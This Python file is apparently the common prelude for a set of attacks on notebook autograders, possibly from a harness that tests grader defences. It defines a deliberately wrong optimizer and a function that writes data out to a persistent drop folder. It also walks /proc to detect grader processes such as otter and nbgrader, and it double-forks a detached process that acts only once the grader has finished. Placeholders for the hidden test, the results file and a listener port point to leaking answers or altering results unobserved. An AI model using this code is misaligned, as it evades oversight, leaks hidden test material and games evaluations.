"""What the attacks have in common. It is pasted in front of each, because a notebook is a single file."""

import contextlib
import os
import time

from base import Optimizer

# Told to the attacker: a folder that stays, a listener, and where the hidden test, the class and the results lie.
DROP, PORT, ANSWERS, CLASS, RESULTS = "@DROP@", "@PORT@", "@ANSWERS@", "@CLASS@", "@RESULTS@"


class Wrong(Optimizer):
    """Walks uphill: worth nothing under any test."""

    def __init__(self, params, lr, momentum=0.9, weight_decay=0.0):
        super().__init__(params, lr)

    def update(self, param, grad, state):
        param.add_(self.lr * grad)


def tell(text):
    """Carry `text` out."""
    with contextlib.suppress(OSError), open(os.path.join(DROP, f"{os.getpid()}.txt"), "a") as file:
        file.write(text)


def ancestors():
    """The processes above this one, nearest first: number and command line."""
    pid = os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline") as command, open(f"/proc/{pid}/stat") as stat:
                yield pid, command.read().split("\0")
                pid = int(stat.read().rpartition(")")[2].split()[1])
        except OSError:
            return


def after_the_verdict(act):
    """`act()` in a process of its own once the grader has ended, or after six seconds where none can be seen."""
    names = ("otter", "nbgrader", "grade.py")
    graders = [pid for pid, command in ancestors() if any(name in word for word in command[:4] for name in names)]
    try:
        if os.fork():
            return
        os.setsid()
        if os.fork():
            os._exit(0)
    except OSError:
        return
    for _ in range(200 if graders else 60):
        time.sleep(0.1)
        if graders and not os.path.exists(f"/proc/{graders[0]}"):
            break
    with contextlib.suppress(Exception):
        act()
    os._exit(0)
